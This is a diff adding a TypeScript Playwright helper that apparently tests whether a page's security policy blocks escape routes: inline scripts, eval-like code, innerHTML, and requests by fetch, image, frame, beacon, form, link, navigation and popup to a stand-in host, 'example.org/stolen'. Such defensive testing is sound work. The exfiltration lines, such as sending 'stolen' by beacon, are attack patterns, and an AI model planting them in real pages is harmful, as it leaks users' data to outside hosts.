@@ -1,0 +1,128 @@
+import type { Page } from 'playwright-core';
+
+/** What a page that has been taken over could try. Each tells whether it got through. */
+export type WayOut = (page: Page) => Promise<boolean>;
+
+const foreign = 'https://example.org/stolen';
+
+/** Longer than the slowest way out takes to arrive where nothing stops it; see the control. */
+const ARRIVAL_MS = 1000;
+
+/** Whether a request for the foreign host got an answer. */
+async function reachesForeignHost(page: Page, attempt: () => Promise<unknown>): Promise<boolean> {
+  const waiting = page
+    .waitForResponse((response) => response.url().startsWith(foreign), { timeout: ARRIVAL_MS })
+    .catch(() => undefined);
+  await attempt().catch(() => {});
+  const answer = await waiting;
+  const hasLeft = answer?.request().isNavigationRequest() === true && answer.frame() === page.mainFrame();
+  if (hasLeft) await page.waitForURL(/example\.org/u);
+  return answer !== undefined;
+}
+
+export const waysOut: Readonly<Record<string, WayOut>> = {
+  'an inline script': (page) =>
+    page.evaluate(() => {
+      const script = document.createElement('script');
+      try {
+        script.append('window.isInlineScriptRun = true');
+        document.body.append(script);
+      } catch {
+        return false;
+      }
+      return 'isInlineScriptRun' in window;
+    }),
+  'text that becomes code': (page) =>
+    page.evaluate(
+      () =>
+        new Promise<boolean>((resolve) => {
+          // In a task of its own: what a debugger evaluates may always do this.
+          setTimeout(() => {
+            try {
+              resolve(
+                new (Object.getPrototypeOf(() => {}).constructor as FunctionConstructor)('return 2')() === 2,
+              );
+            } catch {
+              resolve(false);
+            }
+          }, 0);
+        }),
+    ),
+  'text that becomes markup': (page) =>
+    page.evaluate(() => {
+      const element = document.createElement('div');
+      try {
+        element.innerHTML = '<b>bold</b>';
+      } catch {
+        return false;
+      }
+      return element.querySelector('b') !== null;
+    }),
+  'an inline style sheet': (page) =>
+    page.evaluate(() => {
+      const style = document.createElement('style');
+      style.textContent = 'body { outline-width: 7px; outline-style: solid }';
+      document.head.append(style);
+      return getComputedStyle(document.body).outlineWidth === '7px';
+    }),
+  'a request by fetch': (page) => reachesForeignHost(page, () => page.evaluate((url) => fetch(url), foreign)),
+  'an image': (page) =>
+    reachesForeignHost(page, () =>
+      page.evaluate((url) => {
+        const image = new Image();
+        image.src = url;
+        document.body.append(image);
+      }, foreign),
+    ),
+  'a frame': (page) =>
+    reachesForeignHost(page, () =>
+      page.evaluate((url) => {
+        const frame = document.createElement('iframe');
+        frame.src = url;
+        document.body.append(frame);
+      }, foreign),
+    ),
+  'a style sheet': (page) =>
+    reachesForeignHost(page, () =>
+      page.evaluate((url) => {
+        const link = document.createElement('link');
+        link.rel = 'stylesheet';
+        link.href = url;
+        document.head.append(link);
+      }, foreign),
+    ),
+  'a beacon': (page) =>
+    reachesForeignHost(page, () => page.evaluate((url) => navigator.sendBeacon(url, 'stolen'), foreign)),
+  'a form': (page) =>
+    reachesForeignHost(page, () =>
+      page.evaluate((url) => {
+        const form = document.createElement('form');
+        form.action = url;
+        document.body.append(form);
+        form.submit();
+      }, foreign),
+    ),
+  'a link': (page) =>
+    reachesForeignHost(page, () =>
+      page.evaluate((url) => {
+        const link = document.createElement('a');
+        link.href = url;
+        document.body.append(link);
+        link.click();
+      }, foreign),
+    ),
+  'a change of place': (page) =>
+    reachesForeignHost(page, () =>
+      page.evaluate((url) => {
+        location.href = url;
+      }, foreign),
+    ),
+  'another window': async (page) => {
+    const opened = page.context().waitForEvent('page', { timeout: 1500 });
+    await page.evaluate((url) => void window.open(url), foreign);
+    const popup = await opened.catch(() => undefined);
+    if (popup === undefined) return false;
+    await popup.waitForLoadState().catch(() => {});
+    return !popup.isClosed() && popup.url().startsWith('https://example.org');
+  },
+};
